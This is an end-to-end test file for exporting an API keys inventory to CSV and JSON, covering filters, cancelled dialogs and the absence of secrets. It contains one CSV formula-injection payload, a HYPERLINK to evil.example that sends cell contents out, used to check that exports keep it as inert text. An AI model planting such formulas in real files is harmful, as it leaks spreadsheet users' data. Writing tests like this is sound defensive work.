/**
 * Export the keys inventory: the Export menu on the keys toolbar → main's save dialog → a file on disk,
 * read back here. CSV keeps a formula-looking name as text; JSON keeps it exactly; the current filter
 * decides which keys; a cancelled dialog writes nothing; no secret ever reaches the file.
 */
import { parse } from 'csv-parse/sync';
import { readdirSync, readFileSync } from 'node:fs';
import { KEYS_CSV_HEADER, KeysExportDocumentSchema } from '../../src/main/exports/keys-inventory.js';
import { hashSecret } from '../../src/shared/key-format.js';
import { expect, test } from './fixtures.js';
import { createKeyThroughUi } from './support/flows.js';

const FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click me")';

// Three keys made through the UI, then three exports: more than the default minute on a shared machine.
test.slow();

test('export the inventory as CSV and JSON, written and read back; formula-looking names stay text', async ({ app, page }) => {
  const secrets = [
    await createKeyThroughUi(page, { name: FORMULA, capabilities: ['Read records'] }),
    await createKeyThroughUi(page, { name: '+1', canImpersonate: true }),
    await createKeyThroughUi(page, { name: 'Nightly sync', capabilities: ['Read records', 'Write records'] }),
  ];

  // CSV of the whole list (the default filter: keys not revoked), newest first as the table shows them.
  await page.getByRole('button', { name: 'Export' }).click();
  await expect(page.getByRole('button', { name: 'Export' })).toHaveAttribute('title', 'Export 3 keys');
  await page.getByRole('menuitem', { name: 'CSV' }).click();
  const [csvRequest] = await app.saveDialog.requests();
  expect(csvRequest).toMatchObject({
    title: 'Export API keys',
    defaultName: expect.stringMatching(/^acme-api-keys-\d{4}-\d{2}-\d{2}\.csv$/),
    filter: { extensions: ['csv'] },
  });
  const csvPath = `${app.saveDialog.folder}/${csvRequest!.defaultName}`;
  await expect(page.getByText(`3 keys exported to ${csvPath}.`)).toBeVisible();

  const csv = readFileSync(csvPath, 'utf8');
  const [header, ...rows] = parse(csv, { bom: true }) as string[][];
  expect(header).toEqual([...KEYS_CSV_HEADER]);
  expect(rows.map((row) => row[0])).toEqual(['Nightly sync', "'+1", `'${FORMULA}`]);
  const plusRow = rows[1]!;
  expect(plusRow[KEYS_CSV_HEADER.indexOf('Can impersonate')]).toBe('Yes');
  expect(plusRow[KEYS_CSV_HEADER.indexOf('Permissions')]).toBe('No permissions');
  expect(plusRow[KEYS_CSV_HEADER.indexOf('Allowed addresses')]).toBe('From any address');
  expect(rows[0]![KEYS_CSV_HEADER.indexOf('Status')]).toBe('Active');
  for (const secret of secrets) {
    expect(csv).not.toContain(secret);
    expect(csv).not.toContain(hashSecret(secret));
  }

  // JSON of the current filter only: the search narrows the table, and the file.
  await page.getByRole('searchbox', { name: 'Search' }).fill('hyperlink');
  await page.getByRole('button', { name: 'Export' }).click();
  await page.getByRole('menuitem', { name: 'JSON' }).click();
  const jsonRequest = (await app.saveDialog.requests())[1]!;
  const jsonPath = `${app.saveDialog.folder}/${jsonRequest.defaultName}`;
  await expect(page.getByText(`1 key exported to ${jsonPath}.`)).toBeVisible();
  const document = KeysExportDocumentSchema.parse(JSON.parse(readFileSync(jsonPath, 'utf8')));
  expect(document.keys.map((key) => [key.name, key.permissions, key.status])).toEqual([[FORMULA, ['data-record:read'], 'active']]);
  expect(document.organization?.slug).toBe('acme');
  for (const secret of secrets) expect(JSON.stringify(document)).not.toContain(secret);

  // A cancelled dialog: nothing written, nothing said.
  await app.saveDialog.answerNext('cancel');
  await page.getByRole('button', { name: 'Export' }).click();
  await page.getByRole('menuitem', { name: 'CSV' }).click();
  await expect.poll(async () => (await app.saveDialog.requests()).length).toBe(3);
  await expect(page.getByRole('button', { name: 'Export' })).toBeEnabled();
  expect(readdirSync(app.saveDialog.folder).sort()).toEqual([csvRequest!.defaultName, jsonRequest.defaultName].sort());
});

test('a folder that cannot be written: a clear error, nothing written', async ({ app, page }) => {
  await createKeyThroughUi(page, { name: 'Ledger import' });
  await app.saveDialog.answerNext({ path: `${app.saveDialog.folder}/no-such-folder/keys.csv` });
  await page.getByRole('button', { name: 'Export' }).click();
  await page.getByRole('menuitem', { name: 'CSV' }).click();
  await expect(page.getByText("Couldn't save keys.csv: the folder does not exist. Nothing was written; choose another place and try again.")).toBeVisible();
  expect(readdirSync(app.saveDialog.folder)).toEqual([]);
});
